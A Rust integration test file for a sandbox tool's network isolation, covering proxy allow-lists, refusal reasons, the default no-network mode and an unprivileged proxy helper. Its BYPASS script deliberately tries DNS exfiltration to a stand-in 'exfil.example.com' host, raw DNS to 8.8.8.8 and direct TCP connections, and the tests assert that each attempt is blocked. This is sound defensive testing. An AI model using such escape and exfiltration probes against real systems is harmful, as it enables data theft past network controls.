//! `--net allow=`, `--net host` and the default `none`, as root and as the unprivileged user,
//! against an HTTP and an HTTPS server on the host's 127.0.0.1 (no internet needed): allowed
//! names are served and counted; a name outside the list, a direct IP, and a name resolving to
//! loopback without that address being listed are refused and counted; DNS and sockets that
//! ignore the proxy reach nothing.

#[macro_use]
mod common;
mod net_support;

use common::*;
use serde_json::Value;

const PY: &str = "/usr/bin/python3";

/// A client run inside the sandbox: fetches each URL through the proxy variables (urllib
/// honours them) and prints `URL STATUS BYTES` or `URL ERR reason`. A CA in $CA is trusted.
const CLIENT: &str = r#"
import os, ssl, sys, urllib.request
ctx = ssl.create_default_context(cadata=os.environ["CA"]) if os.environ.get("CA") else None
for u in sys.argv[1:]:
    try:
        r = urllib.request.urlopen(u, timeout=10, context=ctx)
        body = r.read()
        print(u, r.status, len(body), body[:40].decode(errors="replace").split("\n")[0])
    except urllib.error.HTTPError as e:
        print(u, "HTTP", e.code, e.read().decode(errors="replace").strip())
    except Exception as e:
        print(u, "ERR", type(e).__name__, e)
"#;

fn lines(out: &str) -> Vec<&str> {
    out.lines().collect()
}

fn line_for<'a>(out: &'a str, url: &str) -> &'a str {
    out.lines()
        .find(|l| l.starts_with(&format!("{url} ")))
        .unwrap_or_else(|| panic!("no line for {url} in:\n{out}"))
}

fn allowed<'a>(r: &'a JsonRun, host: &str, port: u16) -> &'a Value {
    r.get("/network/allowed")
        .as_array()
        .unwrap_or_else(|| panic!("network.allowed must be an array:\n{}", r.describe()))
        .iter()
        .find(|a| a["host"] == host && a["port"] == port)
        .unwrap_or_else(|| panic!("no allowed entry for {host}:{port}:\n{}", r.describe()))
}

fn refused_reason(r: &JsonRun, host: &str, port: u16) -> String {
    r.get("/network/refused")
        .as_array()
        .unwrap_or_else(|| panic!("network.refused must be an array:\n{}", r.describe()))
        .iter()
        .find(|a| a["host"] == host && a["port"] == port)
        .unwrap_or_else(|| panic!("no refused entry for {host}:{port}:\n{}", r.describe()))["reason"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

both!(
    /// HTTP and HTTPS (CONNECT) to `localhost:PORT`, allowed by name: served, and counted with
    /// their bytes; the HTTPS client verifies the server's certificate for `localhost`.
    fn http_and_https_to_allowed_names(who) {
        let Some(srv) = net_support::start("http_and_https_to_allowed_names", None, true) else {
            return;
        };
        let mut urls = vec![format!("http://localhost:{}/hello-http", srv.http)];
        let mut allow = format!("allow=localhost:{}", srv.http);
        if srv.https != 0 {
            urls.push(format!("https://localhost:{}/hello-https", srv.https));
            allow.push_str(&format!(",localhost:{}", srv.https));
        }
        let mut opts = vec!["--net".to_string(), allow];
        if let Some(ca) = &srv.ca_pem {
            opts.extend(["-e".into(), format!("CA={ca}")]);
        }
        let mut cmd = vec![PY.to_string(), "-c".into(), CLIENT.into()];
        cmd.extend(urls.iter().cloned());
        let r = exec_json_run(who, &opts, &cmd);
        let out = r.expect_ok().to_string();
        let l = line_for(&out, &urls[0]);
        assert!(l.contains(" 200 ") && l.contains("hello over http:"), "{l}\n{}", r.describe());
        let a = allowed(&r, "localhost", srv.http);
        assert_eq!(a["connections"], 1, "{}", r.describe());
        assert!(a["bytesDown"].as_u64().unwrap() > 20 * 30, "{}", r.describe());
        assert!(a["bytesUp"].as_u64().unwrap() > 20, "{}", r.describe());
        if srv.https != 0 {
            let l = line_for(&out, &urls[1]);
            assert!(l.contains(" 200 ") && l.contains("hello over https:"), "{l}\n{}", r.describe());
            let a = allowed(&r, "localhost", srv.https);
            assert!(a["bytesDown"].as_u64().unwrap() > 20 * 30, "{}", r.describe());
        }
        assert_eq!(r.get("/network/mode"), "allow");
        assert_eq!(r.get("/network/refused").as_array().map(Vec::len), Some(0), "{}", r.describe());
        // The servers saw the requests, with the Host the client named.
        let seen = srv.requests();
        assert!(
            seen.iter().any(|s| s == &format!("http localhost:{} /hello-http", srv.http)),
            "{seen:?}"
        );
    }
);

both!(
    /// A name outside the list, a direct IP literal, and a listed name that resolves to
    /// 127.0.0.1 (through --net-resolve) are refused with 403 and counted with their reason;
    /// none of them reaches the server. Listing the address explicitly admits both the
    /// literal and the name.
    fn refusals_are_reasoned_and_counted(who) {
        let Some(srv) = net_support::start("refusals_are_reasoned_and_counted", None, false) else {
            return;
        };
        let p = srv.http;
        let urls = [
            format!("http://not-listed.test:{p}/hello-a"),
            format!("http://127.0.0.1:{p}/hello-b"),
            format!("http://evil.test:{p}/hello-c"),
            format!("http://localhost:{}/hello-d", p.wrapping_add(1).max(1)),
        ];
        let opts = [
            "--net".to_string(),
            format!("allow=localhost:{p},evil.test:{p}"),
            "--net-resolve".into(),
            "evil.test=127.0.0.1".into(),
        ];
        let mut cmd = vec![PY.to_string(), "-c".into(), CLIENT.into()];
        cmd.extend(urls.iter().cloned());
        let r = exec_json_run(who, &opts, &cmd);
        let out = r.expect_ok().to_string();
        for u in &urls {
            let l = line_for(&out, u);
            assert!(l.contains("HTTP 403 cordon:"), "{l}\n{}", r.describe());
        }
        let why = refused_reason(&r, "not-listed.test", p);
        assert!(why.contains("not in the allow-list"), "{why}");
        let why = refused_reason(&r, "127.0.0.1", p);
        assert!(why.contains("direct IP address"), "{why}");
        let why = refused_reason(&r, "evil.test", p);
        assert!(why.contains("resolves to 127.0.0.1") && why.contains("loopback"), "{why}");
        let why = refused_reason(&r, "localhost", p.wrapping_add(1).max(1));
        assert!(why.contains("port"), "{why}");
        assert_eq!(r.get("/network/allowed").as_array().map(Vec::len), Some(0), "{}", r.describe());
        assert!(srv.requests().is_empty(), "nothing may reach the server: {:?}", srv.requests());

        // The address listed explicitly: the literal and the name resolving to it pass.
        let opts = [
            "--net".to_string(),
            format!("allow=evil.test:{p},127.0.0.1:{p}"),
            "--net-resolve".into(),
            "evil.test=127.0.0.1".into(),
        ];
        let r = exec_json_run(who, &opts, &[PY, "-c", CLIENT, &urls[1], &urls[2]]);
        let out = r.expect_ok().to_string();
        assert!(line_for(&out, &urls[1]).contains(" 200 "), "{}", r.describe());
        assert!(line_for(&out, &urls[2]).contains(" 200 "), "{}", r.describe());
        assert_eq!(allowed(&r, "evil.test", p)["connections"], 1);
        assert_eq!(allowed(&r, "127.0.0.1", p)["connections"], 1);
    }
);

/// Tries everything a program that ignores the proxy could: DNS (libc and a raw UDP query),
/// TCP straight to the host's server, to a public address, and to the proxy's port on ::1.
const BYPASS: &str = r#"
import socket, sys
port = int(sys.argv[1])
def attempt(name, f):
    try:
        f(); print(name, "REACHED")
    except Exception as e:
        print(name, "blocked", type(e).__name__, e)
attempt("dns-libc", lambda: socket.getaddrinfo("secret-data.exfil.example.com", 80))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
    s.recv(512)
attempt("dns-udp", udp)
def tcp(addr):
    def f():
        s = socket.create_connection(addr, timeout=3); s.close()
    return f
attempt("tcp-host-server", tcp(("127.0.0.1", port)))
attempt("tcp-public", tcp(("1.1.1.1", 80)))
attempt("tcp-proxy-v6", tcp(("::1", 3128)))
"#;

both!(
    /// With `allow=`, name lookups inside go nowhere, and sockets that ignore the proxy
    /// variables reach nothing: not the host's loopback server, not the internet.
    fn programs_ignoring_the_proxy_reach_nothing(who) {
        let Some(srv) = net_support::start("programs_ignoring_the_proxy_reach_nothing", None, false) else {
            return;
        };
        let port = srv.http.to_string();
        for net in [format!("allow=localhost:{}", srv.http), "none".to_string()] {
            let r = exec_json_run(who, &["--net", &net], &[PY, "-c", BYPASS, &port]);
            let out = r.expect_ok().to_string();
            assert_eq!(lines(&out).len(), 5, "{}", r.describe());
            for l in lines(&out) {
                assert!(l.contains(" blocked "), "--net {net}: {l}\n{}", r.describe());
            }
            // Landlock's TCP rule, not only an empty loopback, stops the direct connection:
            // EACCES (PermissionError), where a missing listener would be ECONNREFUSED.
            let direct = line_for(&out, "tcp-host-server");
            assert!(direct.contains("PermissionError"), "--net {net}: {direct}");
            assert!(srv.requests().is_empty(), "{:?}", srv.requests());
        }
        // And through the proxy, an exfiltrating name is refused before any lookup.
        let r = exec_json_run(
            who,
            &["--net", &format!("allow=localhost:{}", srv.http)],
            &[PY, "-c", CLIENT, "https://secret-data.exfil.example.com/"],
        );
        r.expect_ok();
        let why = refused_reason(&r, "secret-data.exfil.example.com", 443);
        assert!(why.contains("not in the allow-list"), "{why}");
    }
);

both!(
    /// The default is unchanged: no proxy variables, nothing listening on the proxy's port,
    /// `network.mode` none.
    fn none_is_the_default(who) {
        let script = "import os, socket\nprint(sorted(k for k in os.environ if 'proxy' in k.lower()))\ntry:\n    socket.create_connection(('127.0.0.1', 3128), timeout=2); print('open')\nexcept Exception as e:\n    print('closed', type(e).__name__)\n";
        let r = exec_json_run(who, &[] as &[&str], &[PY, "-c", script]);
        let out = r.expect_ok().to_string();
        assert!(out.starts_with("[]\nclosed"), "{}", r.describe());
        assert_eq!(r.get("/network/mode"), "none");
        assert_eq!(r.get("/isolation/network"), "none (only lo; no TCP bind or connect where Landlock restricts TCP)");
        // A refused connect or bind, even on loopback, is explained (from the traceback's
        // lines: a program's file, not `-c`).
        let dir = shared_tempdir();
        let file = dir.path().join("t.py");
        for code in [
            "import socket\nsocket.create_connection(('127.0.0.1', 8000), timeout=2)\n",
            "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8000))\n",
        ] {
            write_world_readable(&file, code.as_bytes());
            let input = format!("t.py={}", file.display());
            let r = exec_json_run(who, &["--file", input.as_str()], &[PY, "t.py"]);
            assert_eq!(r.status(), "runtime_error", "{}", r.describe());
            let msg = r.get("/message").as_str().unwrap_or("");
            assert!(msg.contains("Landlock refuses TCP connect and bind") && msg.contains("--net allow="), "{}", r.describe());
        }
        // A file's "Permission denied" near a word of connecting is not the network's.
        let r = exec_json_run(who, &[] as &[&str], &["sh", "-c", "echo x > f; chmod 000 f; echo 'connecting to the database' >&2; cat f"]);
        assert_eq!((r.status(), r.get("/message")), ("runtime_error", &serde_json::Value::Null), "{}", r.describe());
    }
);

both!(
    /// `--net host` shares the host's network: the host's loopback server is reachable
    /// directly; the result and stderr say so loudly.
    fn host_network_is_explicit_and_loud(who) {
        let Some(srv) = net_support::start("host_network_is_explicit_and_loud", None, false) else {
            return;
        };
        let script = format!(
            "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:{}/hello-host', timeout=5).status)",
            srv.http
        );
        // (Without a cgroup, the memory watch cannot count socket buffers in the host's
        // namespace: the caller accepts that; see hostile_resources.)
        let r = exec_json_run(who, &["--net", "host", "--allow-degraded", "socket-memory"], &[PY, "-c", &script]);
        assert_eq!(r.expect_ok(), "200\n", "{}", r.describe());
        assert_eq!(r.get("/network/mode"), "host");
        let iso = r.get("/isolation/network").as_str().unwrap_or("");
        assert!(iso.contains("HOST NETWORK"), "{}", r.describe());
        assert!(
            !r.get("/isolation/namespaces").as_array().unwrap().iter().any(|n| n == "network"),
            "{}",
            r.describe()
        );
        assert!(r.finished.stderr_str().contains("WARNING: --net host"), "{}", r.describe());
        assert!(iso.contains("loopback services"), "{}", r.describe());
    }
);

both!(
    /// A JSON request's `config.network` and `config.networkResolve` reach `cordon run`.
    fn json_request_network(who) {
        let Some(srv) = net_support::start("json_request_network", None, false) else {
            return;
        };
        let code = format!(
            "import urllib.request\nfor h in ('api.test', 'other.test'):\n    try:\n        print(h, urllib.request.urlopen('http://%s:{}/hello-json' % h, timeout=5).status)\n    except Exception as e:\n        print(h, 'refused', getattr(e, 'code', e))\n",
            srv.http
        );
        let req = serde_json::json!({
            "language": "python",
            "code": code,
            "config": {
                "network": format!("allow=api.test:{p},127.0.0.1:{p}", p = srv.http),
                "networkResolve": {"api.test": "127.0.0.1"}
            }
        });
        let r = Cordon::new(who)
            .arg("run")
            .arg("--request")
            .arg("-")
            .arg("--no-history")
            .stdin(Input::Bytes(req.to_string().into_bytes()))
            .run_json();
        assert_eq!(r.expect_ok(), "api.test 200\nother.test refused 403\n", "{}", r.describe());
        assert_eq!(allowed(&r, "api.test", srv.http)["connections"], 1);
        assert!(refused_reason(&r, "other.test", srv.http).contains("not in the allow-list"));
    }
);

both!(
    /// Bad `--net` values are refused before anything runs.
    fn bad_net_values_are_refused(who) {
        for bad in [
            vec!["--net", "allow="],
            vec!["--net", "open"],
            vec!["--net", "allow=a:0"],
            vec!["--net", "none", "--net-resolve", "a=127.0.0.1"],
        ] {
            let f = exec_plain(who, &bad, &["true"]);
            assert_ne!(f.code, 0, "{bad:?} must fail:\n{}", f.describe());
            assert!(
                f.stderr_str().contains("--net"),
                "{bad:?}: the error must name the option:\n{}",
                f.describe()
            );
        }
    }
);

both!(
    /// An open tunnel never holds the run up: at the timeout the sandbox is killed on time, the
    /// proxy helper is stopped, and the counters of the tunnel are still reported.
    fn open_tunnel_does_not_delay_the_timeout(who) {
        let Some(srv) = net_support::start("open_tunnel_does_not_delay_the_timeout", None, false) else {
            return;
        };
        let script = format!(
            "import socket, time\ns = socket.create_connection(('127.0.0.1', 3128))\ns.sendall(b'CONNECT localhost:{p} HTTP/1.1\\r\\n\\r\\n')\nprint(s.recv(100).decode().split('\\r\\n')[0], flush=True)\ntime.sleep(60)\n",
            p = srv.http
        );
        let opts = ["--net".to_string(), format!("allow=localhost:{}", srv.http), "--timeout".into(), "2s".into()];
        let r = exec_json_run(who, &opts, &[PY, "-c", &script]);
        assert_eq!(r.status(), "timeout", "{}", r.describe());
        assert_eq!(r.output(), "HTTP/1.1 200 Connection established\n", "{}", r.describe());
        assert!(r.elapsed() < std::time::Duration::from_secs(10), "{}", r.describe());
        assert_eq!(allowed(&r, "localhost", srv.http)["connections"], 1, "{}", r.describe());
    }
);

/// Direct children of `pid` (host pids), from /proc.
fn children_of(pid: u32) -> Vec<u32> {
    let mut kids = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(p) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{p}/stat")) else {
            continue;
        };
        // The ppid is the second field after the `(comm)`.
        let after = stat.rsplit_once(") ").map(|x| x.1).unwrap_or("");
        if after.split(' ').nth(1).and_then(|s| s.parse::<u32>().ok()) == Some(pid) {
            kids.push(p);
        }
    }
    kids
}

/// Whether an fd's link names a namespace (`user:[4026531837]`, `net:[...]`, ...).
fn is_namespace_link(link: &str) -> bool {
    ["user", "mnt", "net", "pid", "ipc", "uts", "cgroup", "time"]
        .iter()
        .any(|ns| {
            link.strip_prefix(ns)
                .is_some_and(|rest| rest.starts_with(":["))
        })
}

both!(
    /// The proxy helper parses whatever the sandbox sends it: for a root caller it must not
    /// be root. It is the child of cordon holding sockets; its uid is the sandbox's host uid,
    /// with no capabilities and no_new_privs.
    fn the_proxy_helper_is_not_root(who) {
        let c = Cordon::exec(who, &["--json", "--net", "allow=example.invalid", "--timeout", "20s"], &["sleep", "3"]);
        let mut child = c.spawn(std::process::Stdio::piped(), std::process::Stdio::piped());
        let cordon = child.id();
        let mut proxy = None;
        // Found, and past the fork: a helper that has not yet closed what it inherited from
        // cordon shows cordon's fds for a moment. One that never closes them fails below.
        let settled = |p: u32| std::fs::read_dir(format!("/proc/{p}/fd")).map(|d| d.count()).unwrap_or(usize::MAX) <= 6;
        // Not the helper that makes the network namespace: also a child of cordon holding a
        // socket, before the program starts, but it holds the sandbox's user namespace too.
        let holds_a_namespace = |p: u32| {
            std::fs::read_dir(format!("/proc/{p}/fd")).is_ok_and(|fds| {
                fds.flatten().any(|f| std::fs::read_link(f.path()).is_ok_and(|l| is_namespace_link(&l.to_string_lossy())))
            })
        };
        wait_until(std::time::Duration::from_secs(10), || {
            let own_ns = std::fs::read_link("/proc/self/ns/pid").ok();
            // Not the sandbox's init (pid 1 of another pid namespace): the helper stays in ours.
            proxy = children_of(cordon).into_iter().find(|&k| {
                std::fs::read_link(format!("/proc/{k}/ns/pid")).ok() == own_ns
                    && !holds_a_namespace(k)
                    && std::fs::read_dir(format!("/proc/{k}/fd")).is_ok_and(|fds| {
                    fds.flatten().any(|f| std::fs::read_link(f.path()).is_ok_and(|l| l.to_string_lossy().starts_with("socket:")))
                })
            });
            proxy.is_some_and(settled)
        });
        let status = proxy.and_then(|p| std::fs::read_to_string(format!("/proc/{p}/status")).ok()).unwrap_or_default();
        // What it holds: stdio, the listening socket, its stop and report pipes; nothing of
        // the sandbox's (no stdin pipe, no handover socketpair, no namespace or cgroup fd).
        let fds: Vec<String> = proxy
            .and_then(|p| std::fs::read_dir(format!("/proc/{p}/fd")).ok())
            .map(|d| d.flatten().filter_map(|f| std::fs::read_link(f.path()).ok()).map(|l| l.to_string_lossy().into_owned()).collect())
            .unwrap_or_default();
        let _ = child.kill();
        let _ = child.wait();
        assert!(proxy.is_some(), "no proxy helper (a child of cordon in its pid namespace holding a socket) found");
        let field = |k: &str| status.lines().find_map(|l| l.strip_prefix(k)).unwrap_or("").split_whitespace().map(String::from).collect::<Vec<_>>();
        let uids = field("Uid:");
        assert!(!uids.is_empty() && uids.iter().all(|u| u != "0"), "the proxy helper runs with uids {uids:?}:\n{status}");
        if who == Who::User {
            assert!(uids.iter().all(|u| *u == who.caller_uid().to_string()), "{uids:?}");
        }
        assert_eq!(field("CapEff:"), vec!["0000000000000000"], "{status}");
        if running_as_root() && who == Who::Root {
            assert_eq!(field("NoNewPrivs:"), vec!["1"], "{status}");
            assert!(field("Groups:").is_empty(), "supplementary groups kept:\n{status}");
            assert!(field("Gid:").iter().all(|g| g != "0"), "{status}");
        }
        assert!(fds.len() <= 6, "the proxy helper holds {fds:?}");
        assert_eq!(fds.iter().filter(|l| l.starts_with("socket:")).count(), 1, "{fds:?}");
        assert!(!fds.iter().any(|l| is_namespace_link(l) || l.contains("cgroup")), "{fds:?}");
    }
);

/// A route that delivers an address to this host (`ip route add local ADDR/32 dev lo`, or
/// /128 for IPv6: "AnyIP") for as long as it lives.
struct LocalRoute(Vec<String>);

impl LocalRoute {
    fn add(addr: &str) -> Result<LocalRoute, String> {
        let v6 = addr.contains(':');
        let mut args: Vec<String> = if v6 { vec!["-6".into()] } else { vec![] };
        args.extend(["route".into(), "add".into(), "local".into()]);
        args.push(format!("{addr}/{}", if v6 { 128 } else { 32 }));
        args.extend(["dev".into(), "lo".into()]);
        let mut del = args.clone();
        del[if v6 { 2 } else { 1 }] = "del".into();
        // One a killed earlier run left behind (documentation addresses: no host routes them).
        let _ = std::process::Command::new("ip").args(&del).output();
        let out = std::process::Command::new("ip")
            .args(&args)
            .output()
            .map_err(|e| format!("ip: {e}"))?;
        if !out.status.success() {
            return Err(String::from_utf8_lossy(&out.stderr).into_owned());
        }
        Ok(LocalRoute(del))
    }
}

impl Drop for LocalRoute {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ip").args(&self.0).output();
    }
}

both!(
    /// An allowed name that resolves to an address the host delivers to itself through a
    /// `local` route (no interface has the address, so it is not among the interfaces'
    /// addresses), IPv4 or IPv6, reaches the host's own services like its addresses do:
    /// refused unless the address is listed, and the service gets no byte. Listed, it is
    /// served.
    fn an_address_the_host_delivers_to_itself_is_refused_unless_listed(who) {
        if !running_as_root() {
            skip!("SKIP: an_address_the_host_delivers_to_itself_is_refused_unless_listed: adding a local route needs root");
            return;
        }
        let n = if who == Who::Root { 7 } else { 8 };
        for (addr, entry) in [
            (format!("198.51.100.{n}"), format!("198.51.100.{n}")),
            (format!("2001:db8:77::{n}"), format!("[2001:db8:77::{n}]")),
        ] {
            let _route = match LocalRoute::add(&addr) {
                Ok(r) => r,
                Err(e) => {
                    skip_unless_required!("SKIP: an_address_the_host_delivers_to_itself_is_refused_unless_listed: ip route add local {addr}: {e}");
                    return;
                }
            };
            // Any address: the connection reaches it however the host delivers it.
            let listener = std::net::TcpListener::bind("[::]:0").unwrap();
            let port = listener.local_addr().unwrap().port();
            let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
            let seen = std::sync::Arc::clone(&got);
            std::thread::spawn(move || {
                use std::io::{Read, Write};
                for mut s in listener.incoming().flatten() {
                    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                    let mut buf = [0u8; 4096];
                    let n = s.read(&mut buf).unwrap_or(0);
                    seen.lock().unwrap().extend_from_slice(&buf[..n]);
                    if n > 0 {
                        let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nSECRET");
                    }
                }
            });
            let url = format!("http://anyip.test:{port}/x");
            let resolve = ["--net-resolve".to_string(), format!("anyip.test={addr}")];
            let mut opts = vec!["--net".to_string(), format!("allow=anyip.test:{port}")];
            opts.extend(resolve.iter().cloned());
            let r = exec_json_run(who, &opts, &[PY, "-c", CLIENT, &url]);
            let out = r.expect_ok().to_string();
            assert!(line_for(&out, &url).contains("HTTP 403 cordon:"), "{addr}: {}", r.describe());
            let why = refused_reason(&r, "anyip.test", port);
            assert!(why.contains(&format!("resolves to {addr}")) && why.contains("an address of this host"), "{why}");
            assert!(got.lock().unwrap().is_empty(), "{addr}: the host's service got bytes: {:?}", got.lock().unwrap());
            // The address listed explicitly: served.
            let mut opts = vec!["--net".to_string(), format!("allow=anyip.test:{port},{entry}:{port}")];
            opts.extend(resolve.iter().cloned());
            let r = exec_json_run(who, &opts, &[PY, "-c", CLIENT, &url]);
            let out = r.expect_ok().to_string();
            assert!(line_for(&out, &url).contains(" 200 6 SECRET"), "{addr}: {}", r.describe());
        }
    }
);
